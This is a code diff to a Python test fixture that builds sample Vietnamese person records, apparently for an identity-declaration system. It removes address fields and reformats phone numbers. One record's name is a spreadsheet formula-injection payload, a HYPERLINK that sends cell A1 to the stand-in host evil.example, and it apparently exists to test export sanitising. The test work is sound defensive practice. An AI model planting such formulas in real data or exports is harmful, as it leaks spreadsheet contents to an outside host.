@@ -51,16 +51,15 @@ EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
 
 
 def _person(n, name, phone, **kw):
-    p = {"id_number": f"0791900777{n:02d}", "name": name, "dob": "1990-03-14", "phone": phone,
-         "address": f"{n} Lê Lợi", "ward": "Phường Bến Thành"}
+    p = {"id_number": f"0791900777{n:02d}", "name": name, "dob": "1990-03-14", "phone": phone}
     p.update(kw)
     return p
 
 
-A = _person(1, "Nguyễn Văn Ân", "0912 777 001")
-B = _person(2, "Trần Thị Bình", "0912 777 002")
-C = _person(3, EVIL_NAME, "0912 777 003")
-D = _person(4, "Phạm Minh Dũng", "0912 777 004")
+A = _person(1, "Nguyễn Văn Ân", "0912777001")  # as a CHOT2 declaration carries it
+B = _person(2, "Trần Thị Bình", "0912777002")
+C = _person(3, EVIL_NAME, "0912777003")
+D = _person(4, "Phạm Minh Dũng", "0912777004")
 PAPER = _person(5, "Lê Thị Giấy", "0912 777 005")
 PEOPLE = (A, B, C, D, PAPER)
 BARE_ID = "079190077799"  # a bare ID number shown at the station: an unsigned claim, refused
